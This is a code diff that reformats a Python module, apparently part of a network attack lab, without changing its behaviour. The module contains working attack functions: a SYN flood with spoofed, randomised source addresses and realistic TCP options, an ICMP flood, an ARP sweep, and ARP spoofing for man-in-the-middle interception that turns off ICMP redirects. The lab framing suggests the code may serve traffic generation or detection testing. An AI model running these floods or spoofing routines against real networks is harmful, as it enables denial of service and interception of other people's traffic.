@@ -13,22 +13,48 @@ from wirespeak.lab.attacks.start import Pace, start
 def checksum(data: bytes) -> int:
     """The Internet checksum (RFC 1071)."""
     data += b"\0" * (len(data) % 2)
-    total = sum(struct.unpack(f">{len(data) // 2}H", data))
+    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
     total = (total >> 16) + (total & 0xFFFF)
     return ~(total + (total >> 16)) & 0xFFFF
 
 
-def syn_flood(*, target: str, ports: list[int], rate: float, count: int, source: str, seed: int, ttl: int) -> None:
+def syn_flood(
+    *, target: str, ports: list[int], rate: float, count: int, source: str, seed: int, ttl: int
+) -> None:
     """SYNs with MSS, SACK, timestamp and window scale, as a real system sends. Source "" is another one each time."""
     random, pace = Random(seed), Pace(rate)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         for _ in range(count):
-            sender = socket.inet_aton(source) if source else bytes((random.choice((45, 81, 102, 144, 185, 203)), *random.randbytes(3)))
-            options = b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + random.randbytes(4) + bytes(4) + b"\x01\x03\x03\x07"
-            head = struct.pack(">HHIIBBHHH", random.randint(1024, 65535), random.choice(ports), random.getrandbits(32), 0, 0xA0, 2, 64240, 0, 0) + options
+            sender = (
+                socket.inet_aton(source)
+                if source
+                else bytes((random.choice((45, 81, 102, 144, 185, 203)), *random.randbytes(3)))
+            )
+            options = (
+                b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + random.randbytes(4) + bytes(4) + b"\x01\x03\x03\x07"
+            )
+            head = (
+                struct.pack(
+                    ">HHIIBBHHH",
+                    random.randint(1024, 65535),
+                    random.choice(ports),
+                    random.getrandbits(32),
+                    0,
+                    0xA0,
+                    2,
+                    64240,
+                    0,
+                    0,
+                )
+                + options
+            )
             pseudo = sender + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(head))
             head = head[:16] + struct.pack(">H", checksum(pseudo + head)) + head[18:]
-            packet = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(head), random.getrandbits(16), 0x4000, ttl, 6, 0) + sender + socket.inet_aton(target)
+            packet = (
+                struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(head), random.getrandbits(16), 0x4000, ttl, 6, 0)
+                + sender
+                + socket.inet_aton(target)
+            )
             raw.sendto(packet + head, (target, 0))
             time.sleep(pace.wait_s())
 
@@ -54,10 +80,19 @@ def icmp_flood(*, target: str, rate: float, count: int, size: int, identities: i
             time.sleep(pace.wait_s())
 
 
+def _mac(text: str) -> bytes:
+    return bytes.fromhex(text.replace(":", ""))
+
+
 def _arp(operation: int, sender_mac: str, sender: str, target_mac: str, target: str, *, to: str) -> bytes:
-    mac = lambda text: bytes.fromhex(text.replace(":", ""))  # noqa: E731
-    body = struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation) + mac(sender_mac) + socket.inet_aton(sender) + mac(target_mac) + socket.inet_aton(target)
-    return mac(to) + mac(sender_mac) + b"\x08\x06" + body
+    body = (
+        struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
+        + _mac(sender_mac)
+        + socket.inet_aton(sender)
+        + _mac(target_mac)
+        + socket.inet_aton(target)
+    )
+    return _mac(to) + _mac(sender_mac) + b"\x08\x06" + body
 
 
 def arp_sweep(*, targets: list[str], rate: float, shuffled: bool, mac: str, address: str, seed: int) -> None:
@@ -72,7 +107,17 @@ def arp_sweep(*, targets: list[str], rate: float, shuffled: bool, mac: str, addr
             time.sleep(pace.wait_s())
 
 
-def arp_spoof(*, mac: str, one: list[str], other: list[str], interval: float, both: bool, request: bool, gratuitous: bool, seconds: float) -> None:
+def arp_spoof(
+    *,
+    mac: str,
+    one: list[str],
+    other: list[str],
+    interval: float,
+    both: bool,
+    request: bool,
+    gratuitous: bool,
+    seconds: float,
+) -> None:
     """Claim each end's address to the other, by reply, request or announcement; the kernel relays. Repair at the end."""
     for name in ("all", "eth0"):
         with open(f"/proc/sys/net/ipv4/conf/{name}/send_redirects", "w") as setting:
